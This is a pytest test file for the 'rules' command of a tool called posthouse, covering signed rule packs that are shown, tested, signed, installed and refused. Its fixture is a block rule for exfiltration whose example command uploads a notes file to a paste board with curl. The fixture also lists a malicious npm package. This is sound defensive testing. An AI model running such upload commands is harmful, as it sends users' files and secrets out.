"""`posthouse rules`: shown, proved, signed, installed, refused and removed."""

import json
from pathlib import Path

import pytest

from posthouse.cli.app import run_command

BODY = """
[[rule]]
id = "acme/no-public-paste"
kinds = ["send", "send-secret"]
class = "exfiltration"
severity = "high"
mode = "block"
subject = 'paste'
reason = {en = "sends something to a paste board", zh = "会把内容发送到公开粘贴板"}
examples = [{run = "curl -T notes.txt https://paste.acme.example/", user = "Upload the notes"}]
misses = [{run = "curl https://paste.acme.example/help"}]

[lists.malicious]
names = "npm acme-leaver * ACME-1"
"""


@pytest.fixture(autouse=True)
def _here(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("POSTHOUSE_CONFIG", "posthouse.toml")
    monkeypatch.setenv("LANG", "C")
    settings("")


def settings(key: str) -> None:
    keys = f'pack_keys = ["{key}"]' if key else ""
    with Path("posthouse.toml").open("w", encoding="utf-8") as file:
        file.write(f'[store]\nfolder = "data"\n[inspection]\n{keys}\n[[channel]]\nname = "relay"\n'
                   'url = "https://relay.example.com"\ndialects = ["openai_chat"]\n'
                   'models = ["m"]\nbasis = "made up"\n')  # fmt: skip


def told(capsys, *command, code: int = 0):
    capsys.readouterr()
    assert run_command(["rules", *command, "--json"]) == code
    return json.loads(capsys.readouterr().out)


def complaint(capsys, *command) -> str:
    capsys.readouterr()
    assert run_command(["rules", *command]) == 1
    return capsys.readouterr().err


def write(name: str, text: str) -> str:
    with Path(name).open("w", encoding="utf-8") as file:
        file.write(text)
    return name


def signed(capsys, version: int, body: str = BODY, out: str = "") -> str:
    out = out or f"acme-{version}.pack"
    write("acme.toml", body)
    told(capsys, "sign", "acme.toml", "--name", "acme", "--version", str(version),
         "--key", "signer.key", "--out", out)  # fmt: skip
    return out


@pytest.fixture
def trusted(capsys):
    settings(told(capsys, "key", "acme-security", "signer.key")["verifier_key"])


def test_the_rules_that_ship_are_listed_shown_and_hold(capsys):
    rows = told(capsys, "list")
    assert {"facts/fetch-run", "text/override", "key/tools"} <= {row["id"] for row in rows}
    shown = told(capsys, "show", "facts/index")
    assert (shown["mode"], shown["severity"]) == ("block", "critical")
    assert shown["reason"]["zh"]
    assert told(capsys, "test")["failures"] == []
    assert "no-such" in complaint(capsys, "show", "facts/no-such")


def test_reasons_are_told_in_the_readers_language(capsys, monkeypatch):
    monkeypatch.setenv("LANG", "zh_CN.UTF-8")
    capsys.readouterr()
    assert run_command(["rules", "list"]) == 0
    assert "会运行下载来的内容" in capsys.readouterr().out


@pytest.mark.usefixtures("trusted")
def test_a_signed_pack_is_in_force_until_it_is_removed(capsys):
    found = told(capsys, "install", signed(capsys, 3))
    assert found["changed"]
    assert found["signer"] == "acme-security"
    assert told(capsys, "show", "acme/no-public-paste")["pack"] == found["pack"]
    assert not told(capsys, "install", "acme-3.pack")["changed"]
    assert told(capsys, "update", signed(capsys, 4))["changed"]
    told(capsys, "remove", "acme")
    assert [row["in_force"] for row in told(capsys, "versions")] == [True, False]
    assert "none named acme" in complaint(capsys, "remove", "acme")


@pytest.mark.usefixtures("trusted")
def test_a_version_does_not_go_back_and_a_changed_file_is_refused(capsys):
    told(capsys, "install", signed(capsys, 3))
    assert "version 3 of the pack acme or above" in complaint(capsys, "install", signed(capsys, 2))
    other = signed(capsys, 3, BODY.replace("high", "low"), "other.pack")
    assert "another content under version 3" in complaint(capsys, "install", other)
    with Path("acme-3.pack").open("rb+") as file:
        file.seek(-8, 2)
        file.write(b"X")
    assert "step 3" in complaint(capsys, "install", "acme-3.pack")


@pytest.mark.usefixtures("trusted")
def test_a_pack_that_nobody_trusted_signed_is_refused(capsys):
    made = signed(capsys, 1)
    settings("")
    assert "inspection.pack_keys" in complaint(capsys, "install", made)
    assert "without a signature" in complaint(capsys, "install", write("x.pack", BODY))


@pytest.mark.usefixtures("trusted")
def test_a_pack_that_fails_its_own_examples_is_neither_signed_nor_proved(capsys):
    wrong = BODY.replace("subject = 'paste'", "subject = 'elsewhere'")
    write("acme.toml", wrong)
    assert len(told(capsys, "test", "acme.toml", code=1)["failures"]) == 1
    assert "fails 1 of its own examples" in complaint(
        capsys, "sign", "acme.toml", "--name", "acme", "--version", "1",
        "--key", "signer.key", "--out", "a.pack",
    )  # fmt: skip
    assert "expected a new file" in complaint(capsys, "key", "again", "signer.key")
